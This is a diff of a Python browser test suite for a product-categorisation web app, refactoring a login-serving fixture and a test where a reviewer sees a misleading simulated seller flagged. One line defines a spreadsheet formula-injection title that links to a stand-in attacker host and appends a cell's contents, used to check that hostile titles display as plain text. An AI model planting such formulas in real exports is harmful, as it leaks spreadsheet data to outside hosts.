@@ -8,12 +8,10 @@ from __future__ import annotations
 import time
 from pathlib import Path
 
-import pandas as pd
 import pytest
 
-from _hostile_setup import CHROMIUM, Watched, chromium, free_port, wait_port
-from workbench.security import auth
-from workbench.security.login import serve_options
+from _browser import add_users, require_chromium, serve_in_thread
+from _hostile_setup import Watched, chromium
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -26,25 +24,15 @@ FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click") Puma Tee'
 @pytest.fixture(scope="module")
 def served(sample_workspace, tmp_path_factory):
     """1,200 real fashion products with a tfidf run, served with login for a seller and a reviewer."""
-    if not Path(CHROMIUM).exists():
-        pytest.skip("headless Chromium is not installed at /usr/bin/chromium")
-    from workbench.app.serve import serve_app
+    require_chromium()
     from workbench.runs.training import train_models
 
     ws = sample_workspace("seller_browser", 1200, seed=5)
     train_models(ws, ["tfidf"], "grouped", seed=0)
     creds = tmp_path_factory.mktemp("seller_creds") / "credentials.json"
-    old = auth.BCRYPT_ROUNDS
-    auth.BCRYPT_ROUNDS = 6
-    try:
-        for name, (password, role) in USERS.items():
-            auth.add_user(creds, name, password, role)
-    finally:
-        auth.BCRYPT_ROUNDS = old
-    port = free_port()
-    server = serve_app(ws.path, port=port, threaded=True, auth=serve_options(creds), roles=auth.RolesFile(creds))
-    wait_port(port)
-    yield ws, f"http://127.0.0.1:{port}"
+    add_users(creds, USERS)
+    server, url = serve_in_thread(ws.path, creds)
+    yield ws, url
     server.stop()
 
 
@@ -160,19 +148,15 @@ def test_a_bulk_upload_of_twenty_rows_with_two_changed_choices(served, seller, t
 def test_a_reviewer_sees_the_misleading_seller_flagged_on_the_monitoring_page(served, browser):
     """20 simulated sellers' answers on held-out products, one misleading: the Monitoring page
     lists that seller with their low-probability choices (hostile titles as text), no one else."""
-    from test_seller_feedback import held_out_probabilities
-    from workbench.loop.feedback import record_seller_feedback
-    from workbench.loop.misleading_sellers import simulate_seller_choices
+    from workbench.loop.misleading_sellers import (held_out_probabilities, record_simulated_choices,
+                                                  simulate_seller_choices)
     from workbench.runs.selection import default_run
 
     ws, url = served
-    proba, truth, classes = held_out_probabilities(ws)
+    proba, truth, classes = held_out_probabilities(ws, default_run(ws))
     sim = simulate_seller_choices(proba, truth, classes, n_sellers=20, n_products=100, seed=1)
-    for seller, rows in sim.groupby("seller"):
-        titles = [HOSTILE_TITLE if seller == "seller-00" else f"product {r}" for r in rows["row"]]
-        record_seller_feedback(ws, pd.DataFrame({"title": titles, "predicted": rows["first_suggestion"],
-                                                 "category": rows["chosen"], "chosen_proba": rows["chosen_proba"]}),
-                               seller=f"sim-{seller}", run_id=default_run(ws))
+    record_simulated_choices(ws, sim, default_run(ws),
+                             title=lambda seller, row: HOSTILE_TITLE if seller == "seller-00" else f"product {row}")
     liar = sim[(sim["seller"] == "seller-00") & (sim["chosen_proba"] < 0.01)]
     w = Watched(browser)
     try:
